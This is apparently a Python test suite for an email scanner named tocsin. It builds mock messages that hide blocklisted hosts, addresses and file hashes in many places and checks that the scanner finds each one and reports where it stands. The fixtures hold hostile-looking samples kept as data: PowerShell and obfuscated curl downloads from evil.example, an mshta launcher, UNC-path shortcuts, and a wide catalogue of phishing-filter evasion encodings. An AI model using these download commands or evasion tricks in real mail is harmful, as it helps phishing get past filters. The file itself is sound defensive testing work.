#!/usr/bin/env python3
"""An indicator in every place that a reader sees or acts on is found, and `.where`
names the place; what no client follows stays unmatched."""
import base64
import contextlib
import hashlib
import json
import os
import subprocess
import sys
import tempfile
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'support'))
from filter import program
from tap import case, check, run, skip_all

U = 'http://evil.example/x'
FILE = b'payload of the test' * 4
LISTED = f'evil.example\nevil-bare.com\nbad@mailbox.example\n203.0.114.7\n{hashlib.sha256(FILE).hexdigest()}\n'
PLAIN = 'Content-Type: text/plain\n\nhello'
PAGE = f'<html><body><a href="{U}">x</a></body></html>'


def coded(text, charset='utf-8'):
    return base64.b64encode(text if isinstance(text, bytes) else text.encode(charset)).decode()


def percent(text):
    return ''.join(f'%{octet:02x}' for octet in text.encode())


def mail(fields='', kind='text/plain; charset=utf-8', body='hello', sender='Shop <ok@good.example>', subject='hello'):
    return (f'From: {sender}\nTo: <inbox@tocsin.test>\nSubject: {subject}\nMessage-ID: <1@good.example>\n'
            f'Date: Tue, 24 Nov 2026 10:00:00 +0000\nMIME-Version: 1.0\n{fields}Content-Type: {kind}\n\n{body}\n')


def page(body):
    return mail(kind='text/html; charset=utf-8', body=body)


def link(target):
    return page(f'<p><a href="{target}">x</a>')


def parts(*pieces, preamble='', epilogue='', kind='mixed'):
    inner = ''.join(f'--b\n{piece}\n' for piece in pieces)
    return mail(kind=f'multipart/{kind}; boundary=b', body=f'{preamble}\n{inner}--b--\n{epilogue}')


def file(name, content, charset='utf-8'):
    return parts(PLAIN, f'Content-Type: application/octet-stream; name="{name}"\n'
                 f'Content-Transfer-Encoding: base64\n\n{coded(content, charset)}')


def split(text):
    """Encoded words that are cut inside a quantum of base64."""
    return f'=?utf-8?B?{coded(text)[:9]}?=\n =?utf-8?B?{coded(text)[9:]}?='


FLOWED = 'text/plain; charset=utf-8; format=flowed; delsp=yes'
EXTERNAL = 'Content-Type: message/external-body; access-type='

# By the place where the hit has to stand; None: none may be. What it is, the mail.
FIELDS = [
    *[(f'header:{name.lower()}', name, mail(f'{name}: <{U}>\n'))
      for name in ('List-Unsubscribe', 'List-Post', 'List-Help', 'List-Archive', 'Archived-At', 'Content-Location',
                   'Content-Base', 'X-Unsubscribe', 'X-Mozilla-External-Attachment-URL', 'Organization')],
    *[(f'header:{name.lower()}', name, mail(f'{name}: X <bad@mailbox.example>\n'))
      for name in ('Resent-From', 'Errors-To', 'Return-Receipt-To', 'Disposition-Notification-To', 'Mail-Followup-To')],
    ('header:list-unsubscribe', 'folded URL',
     mail('List-Unsubscribe: <mailto:u@good.example>,\n\t<http://ev\n il.example>\n')),
    ('header:list-unsubscribe', 'address', mail('List-Unsubscribe: <mailto:bad@mailbox.example?subject=u>\n')),
    ('header:list-unsubscribe', 'encoded word', mail(f'List-Unsubscribe: =?utf-8?B?{coded("<" + U + ">")}?=\n')),
    ('header:content-location', 'of a part', parts(f'Content-Type: text/html\nContent-Location: {U}\n\n<p>hi')),
    (None, 'a field that nobody is led by', mail(f'X-Spam-Report: {U}\nReceived: from x by {U}\n')),
    ('subject', 'split quantum', mail(subject=split(f'go to {U} now'))),
    ('display-name', 'URL', mail(sender=f'"{U}" <ok@good.example>')),
    ('display-name', 'host', mail(sender='"Evil-Bare.COM" <ok@good.example>')),
    ('display-name', 'split quantum', mail(sender=f'{split("bad@mailbox.example")} <ok@good.example>')),
    ('header:content-type', 'external-body',
     parts(f'{EXTERNAL}URL; URL="http://ev\n il.example"\n\nContent-Type: a/b\n')),
    ('header:content-type', 'external-body in pieces',
     parts(f'{EXTERNAL}URL;\n URL*0="http://evil.";\n URL*1="example/x"\n\nContent-Type: a/b\n')),
    ('header:content-type', 'external-body by FTP', parts(f'{EXTERNAL}ANON-FTP; site=evil.example; name=x\n\n')),
    ('header:content-type', 'external-body by mail', parts(f'{EXTERNAL}mail-server; server="bad@mailbox.example"\n\n')),
    *[(place, f'mail in mail, {place}', parts(PLAIN, f'Content-Type: message/rfc822\n\nDate: x\n{field}\n\nx'))
      for place, field in (('from', 'From: bad@mailbox.example'), ('subject', f'Subject: {U}'),
                           ('header:list-unsubscribe', f'List-Unsubscribe: <{U}>'),
                           ('text', f'To: a@b.example\n\n{U}'))],
]
CARRIED = [
    *[('link', f'data: {target[:40]}', link(target)) for target in (
        f'data:text/html;base64,{coded(PAGE)}', f'DATA:TEXT/HTML;BASE64,{coded(PAGE)}',
        f'data:text/html,{percent(PAGE)}',
        f'data:;base64,{coded(PAGE)}', f'data:text/html;charset=utf-16le;base64,{coded(PAGE, "utf-16le")}',
        f'data:text/html;base64,{percent(coded(PAGE))}', f'da\tta: text/html ; base64 ,{coded(PAGE)}',
        '&#100;ata:text/html;base64&comma;' + ''.join(f'&#{ord(c)}' for c in coded(PAGE)),
        f'data:text/html;base64,{coded("<iframe src=data:text/html;base64," + coded(PAGE) + ">")}',
        f'data:text/plain,see%20{percent(U)}', f'data:text/javascript,location=%22{percent(U)}%22',
        f'data:image/svg+xml;base64,{coded("<svg><a xlink:href=" + U + " /></svg>")}')],
    *[('link', markup[:40], page(markup)) for markup in (
        f'<iframe src="data:text/html,{percent(PAGE)}"></iframe>',
        f'<object data="data:text/html,{percent(PAGE)}"></object>',
        f'<meta http-equiv=refresh content="0;url=data:text/html,{percent(PAGE)}">',
        f'<form action="data:text/html,{percent(PAGE)}"></form>',
        f'<iframe srcdoc="&lt;a href=&quot;data:text/html,{percent(PAGE)}&quot;&gt;x"></iframe>',
        f'<script>location="data:text/html,{percent(PAGE)}"</script>',
        f'<style>@import "data:text/css,a"; a{{b:url(data:text/css;base64,{coded("a{b:url(" + U + ")}")})}}</style>')],
    *[('link', target[:40], link(target)) for target in (
        f'java\tscript:location=\'{percent(U)}\'', f'vbscript:go("{U}")'.replace('"', '&quot;'), f'view-source:{U}',
        f'blob:{U}',
        f'feed:{U}', f'ms-word:ofe|u|{U}', f'sms:+123?body={percent(U)}',
        'search-ms:crumb=location:\\\\evil.example\\share',
        'intent://evil.example/x#Intent;scheme=http;end', f'itms-services://?action=x&url={U}',
        'mailto:ok@good.example?cc=bad@mailbox.example', 'mailto:?to=bad%40mailbox.example&subject=x',
        'mailto:ok@good.example?bcc=ok@good.example,bad@mailbox.example', f'mailto:ok@good.example?body={percent(U)}',
        'mailto:%22X%22%20%3Cbad@mailbox.example%3E', 'mailto:ok@good.example;bad@mailbox.example',
        '\\\\evil.example@SSL@443\\s\\x.png', 'file://evil.example@80/s/x')],
    (None, 'a call', link('tel:+123456')), (None, 'a name of a part', link('cid:evil-bare.com')),
    *[('attachment', f'file {target[:30]}', page(f'<a href="{target}" download="x.exe">x</a>')) for target in (
        f'data:application/octet-stream;base64,{coded(FILE)}', f'data:application/zip,{percent(FILE.decode())}',
        f'data:image/png;base64&comma;{coded(FILE)}', f'data:text/html,{percent(FILE.decode())}')],
    ('attachment', 'a file that is not saved by name',
     page(f'<embed src="data:application/x,{percent(FILE.decode())}">')),
    (None, 'a picture', page(f'<img src="data:image/png,{percent(FILE.decode())}">')),
]
MARKUP = [
    *[('link', target, link(target)) for target in (
        '/\\evil.example/x', '\\/evil.example/x', '\\\\evil.example/x', '///evil.example/x', '/\t/evil.example/x',
        'https:evil.example', '\x01http://evil.example/', 'http&colon;&sol;&sol;evil&period;example',
        '&#104ttp&#x3a//evil.example')],
    *[('link', f'{target} with a base', page(f'<base href="https://good.example/"><a href="{target}">x</a>'))
      for target in ('/\\evil.example/x', '\\\\evil.example/x', '//evil.example', 'http:\\\\evil.example')],
    *[('link', markup, page(markup)) for markup in (
        '<a href=x>x</a><base href="http:\\\\evil.example\\">', '<a href="x">x</a><base href="//evil.example">',
        f'<a ping="http://good.example/a {U}" href=#>x</a>', f'<svg><animate attributeName=href values="{U}"/></svg>',
        f'<svg><rect fill="url({U}#a)"/></svg>', f'<object classid="{U}">', f'<v:shape o:href="{U}">',
        f'<img usemap="{U}">',
        f'<form action-xhr="{U}">', f'<div xml:base="{U}">', f'<a title="{U}">x</a>', f'<img alt="{U}">',
        f'<!--[if mso]><v:fill src="//evil.example/x"/><![endif]-->',
        f'<meta http-equiv=refresh content="0;//evil.example/x">',
        f'<meta http-equiv=refresh content="0,{U}">', f'<meta http-equiv=refresh content=".5 url = \'{U}\'">',
        '<p style="background:url(http:\\2f\\2f evil.example/x)">',
        '<p style="background:url(http://evil\\.example/x)">',
        '<p style="background:u\\72l(//evil.example/x)">', '<p style="b:url(\'http://evil.\\\nexample/x\')">',
        '<style>@import "//evil.example/x";</style>', '<style>a{b:image-set("//evil.example/x" 1x)}</style>',
        '<script>location="//evil.example/x"</script>', '<script>location="ht" +\n "tp://evil.exa"+\'mple/x\'</script>',
        '<script>location="\\150ttp:\\u002f\\x2fevil.example"</script>',
        '<script>x={"u":"http:\\/\\/evil.example\\/x"}</script>',
        f'<script>location=atob( "{coded(U)}")</script>',
        f'<script>document.write(unescape("{percent(PAGE)}"))</script>',
        '<body onload="location=\'//evil.example/\'">')],
    (None, 'a namespace', page(f'<html xmlns="{U}" xmlns:v="{U}" itemscope itemtype="{U}">')),
    (None, 'what defines HTML', page(f'<!DOCTYPE html PUBLIC "x" "{U}"><p>hi')),
    (None, 'a comment of a script', page('<script>// evil.example/x\n//evil.example/x</script>')),
    (None, 'no refresh', page('<meta name=version content="evil-bare.com 1, 2">')),
]
TEXTS = [
    *[('text', f'flowed {body}', mail(kind=FLOWED, body=body)) for body in (
        'see http://evil. \nexample/x now', '> see http://evil. \n> example/x now', 'see http://evil. \n example/x now',
        'see bad@mail \nbox.example now')],
    (None, 'flowed, another depth', mail(kind=FLOWED, body='> see http://evil. \n>> example/x now')),
    (None, 'flowed without delsp', mail(kind='text/plain; format=flowed', body='see http://evil. \nexample/x')),
    (None, 'not flowed', mail(body='see http://evil. \nexample/x')),
    *[('text', repr(body), mail(body=body)) for body in (
        'a\u00a0evil-bare.com\u00a0b', 'a\u2028evil-bare.com\u2028b', 'a\u3000evil-bare.com\u3000b',
        '\u00abevil-bare.com\u00bb',
        '\u201cevil-bare.com\u201d', '\U0001f449evil-bare.com\U0001f448', '\\\\evil.example\\share\\x', f'a\r{U}\rb')],
    ('text:preamble', 'preamble', parts(PLAIN, preamble=f'see {U}\n')),
    ('text:epilogue', 'epilogue', parts(PLAIN, epilogue=f'see {U}\n')),
    ('text:epilogue', 'an address in the epilogue', parts(PLAIN, epilogue='bad@mailbox.example\n')),
    ('link:preamble', 'a page in the preamble', parts(PLAIN, preamble=f'<html><a href="{U}">x</a>\n')),
    ('text', 'a folded card', mail(kind='text/vcard', body='BEGIN:VCARD\nURL:http://evil.exa\n mple/x\nEND:VCARD')),
    ('text', 'a folded address', mail(kind='text/calendar', body='BEGIN:VCALENDAR\nX:mailto:bad@mail\n box.example\n')),
    ('text', 'rich text', mail(kind='text/richtext', body='http://evil<bold></bold>.example/x')),
    ('link', 'XML', mail(kind='text/xml', body='<a href="http:&#47;/evil.example/x">x</a>')),
]
FILES = [
    *[('attachment', f'{name} {content[:40]}', file(name, content)) for name, content in (
        ('a.ps1', f'iwr {U} -o x'), ('a.bat', 'curl ^h^t^t^p://evil.exam^ple/x'),
        ('a.txt', 'write to bad@mailbox.example'),
        ('a.url', f'[InternetShortcut]\r\nURL={U}\r\n'), ('a.url', '[InternetShortcut]\r\nURL=file://evil.example/s/x'),
        ('a.url', '[InternetShortcut]\r\nURL=\\\\evil.example\\s\\x'),
        ('a.url', '[X]\r\nIconFile=\\\\evil.example@80\\s\\x.ico'),
        ('a.theme', '[Control Panel\\Desktop]\r\nWallpaper=\\\\evil.example\\s\\w.jpg'),
        ('a.iqy', f'WEB\r\n1\r\n{U}\r\n'),
        ('a.rdp', 'screen mode id:i:1\r\nfull address:s:evil.example:3389\r\n'),
        ('a.rdp', 'full address:s:203.0.114.7'),
        ('a.csv', f'=HYPERLINK("{U}","a")'), ('a.slk', f'ID;P\r\nC;Y1;X1;E HYPERLINK("{U}")'))],
    *[('link', f'{name} {content[:40]}', file(name, content)) for name, content in (
        ('a.js', 'location.href = "http:\\/\\/evil.example\\/x";'), ('a.js', 'x="\\x68\\x74\\x74\\x70://evil.example"'),
        ('a.js', 'x="ht"+"tp://evil"+".example/x"'), ('a.js', 'x="//evil.example/x"'), ('a.vbs', f'Run "mshta {U}"'),
        ('a.vbs', 'x = "ht" & _\r\n "tp://evil" & ".example"'), ('a.json', '{"u":"http:\\u002f\\u002fevil.example"}'),
        ('a.js', 'x=unescape("%68%74%74%70%3a%2f%2f%65vil.example%2fx")'), ('a.js', f'x=atob("{coded(U)}")'),
        ('a.search-ms',
         '<?xml version="1.0"?><persistedQuery><include path="\\\\evil.example\\share"/></persistedQuery>'),
        ('a.svg', '<svg><script>location="\\u0068ttp://evil.example/x"</script></svg>'),
        ('a.jnlp', '<?xml version="1.0"?><jnlp codebase="http&#58;//evil.example/"/>'))],
    *[('text', f'{name} {content[:40]}', file(name, content)) for name, content in (
        ('a.library-ms',
         '<?xml version="1.0"?><libraryDescription><url>\\\\evil.example\\s</url></libraryDescription>'),
        ('a.xml', '<?xml version="1.0"?><a>http:&#x2f;&#x2f;evil.example/x</a>'),
        ('a.ics', 'BEGIN:VCALENDAR\r\nDESCRIPTION:go http://evil.exa\r\n mple/x\r\nEND:VCALENDAR\r\n'))],
    ('attachment', 'UTF-16', file('a.rdp', '\ufefffull address:s:evil.example\r\n', 'utf-16le')),
    (None, 'a program\'s names', file('a.c', 'x = evil-bare.com(y);')),
    (None, 'a share of one\'s own network', file('a.bat', 'net use \\\\evil-bare\\com')),
]


class World:
    def __init__(self, top):
        self.top, self.conf = top, os.path.join(top, 'tocsin.conf')
        os.makedirs(os.path.join(top, 'state'))
        with open(os.path.join(top, 'list.txt'), 'w') as listed:
            listed.write(LISTED)
        with open(self.conf, 'w') as conf:
            conf.write(f'state-directory "{top}/state"\nown-domains {{ "tocsin.test" }}\n'
                       f'own-networks {{ 10.0.0.0/8 }}\ntrusted-relays {{ 127.0.0.0/8 }}\n'
                       f'feed x {{ source "{top}/list.txt" status verified }}\n'
                       'rule outside "x" {\n severity low  when any mime.defect (.value == content-outside)\n'
                       ' then tag "X-A" "a" }\n'
                       'rule cut "x" {\n severity low  when any mime.defect (.value == text-too-large)\n'
                       ' then tag "X-B" "b" }\n')
        self.tocsin('indicators', 'build')

    def tocsin(self, *words):
        done = subprocess.run([program('tocsin'), words[0], '-c', self.conf, *words[1:]], capture_output=True,
                              text=True, timeout=120)
        check(done.returncode in (0, 1), True, done.stderr)
        return done.stdout

    def scan(self, mails):
        with tempfile.TemporaryDirectory(dir=self.top) as folder:
            paths = []
            for number, text in enumerate(mails):
                paths.append(os.path.join(folder, f'{number:03}.eml'))
                with open(paths[-1], 'wb') as out:
                    out.write(text.replace('\r\n', '\n').replace('\n', '\r\n').encode())
            return [json.loads(line) for line in self.tocsin('scan', '--json', *paths).splitlines()
                    if line.startswith('{')]

    def judge(self, table):
        """The rows whose hits stand elsewhere than they should."""
        found = self.scan([text for _, _, text in table])
        check(len(found), len(table), 'messages')
        places = [{hit['where'] for hit in record['indicators']} for record in found]
        return [(wanted, title, sorted(seen)) for (wanted, title, _), seen in zip(table, places)
                if (wanted not in seen if wanted else seen)]


def rules_of(record):
    return [rule['name'] for rule in record['rules']]


@case('fields that a client acts on or shows are looked up, and the place names them')
def fields(world):
    check(world.judge(FIELDS), [])


@case('pages and files that links carry are looked into')
def carried(world):
    check(world.judge(CARRIED), [])


@case('markup, styles and scripts are read as browsers read them')
def markup(world):
    check(world.judge(MARKUP), [])


@case('text is read as it is shown, also before and behind the parts')
def texts(world):
    check(world.judge(TEXTS), [])


@case('scripts, shortcuts and other files of text are read')
def files(world):
    check(world.judge(FILES), [])


@case('names by which a part may be saved are looked up')
def names(world):
    world.tocsin('indicators', 'add', 'filename', 'evil-name.exe')
    kind = 'Content-Type: application/octet-stream'
    table = [('attachment', fields, parts(PLAIN, f'{fields}\n\nxyz')) for fields in (
        f'{kind}\nContent-Location: http://good.example/a/evil-name.exe', f'{kind}\nContent-Description: evil-name.exe',
        f'{kind}; name=evil-name.exe\nContent-Disposition: attachment; filename=good.txt',
        f'{kind}; name=good.txt\nContent-Disposition: attachment; filename=evil-name.exe',
        f'{kind}\nContent-Disposition: attachment; filename*1="name.exe"; filename*0="evil-"',
        f'{kind}; name*0*=utf-8\'\'evil%2D; name*1=name.exe', f'{kind}; name="{split("evil-name.exe")}"')]
    table.append(('attachment', 'download', page('<a href="data:a/b,xyz" download="evil-name.exe">x</a>')))
    check(world.judge(table), [])


@case('a link before the first part is a defect, one in a list\'s footer is none')
def outside(world):
    before, behind = world.scan([parts(PLAIN, preamble=f'see {U}\n'), parts(PLAIN, epilogue=f'see {U}\n')])
    check('outside' in rules_of(before), True)
    check('outside' in rules_of(behind), False)


@case('documents inside documents are read as deep as the limit says, and the rest is noted')
def depth(world):
    def nested(levels):
        inner = PAGE
        for _ in range(levels):
            inner = f'<a href="data:text/html;base64,{coded(inner)}">x</a>'
        return page(inner)
    check(world.judge([('link', 'four', nested(4)), (None, 'five', nested(5))]), [])
    check(['cut' in rules_of(record) for record in world.scan([nested(4), nested(5)])], [False, True])


@contextlib.contextmanager
def make():
    with tempfile.TemporaryDirectory(prefix='tocsin-hidden-') as top:
        yield World(top)


if not program('tocsin'):
    skip_all('the tool is not built')
run(make)
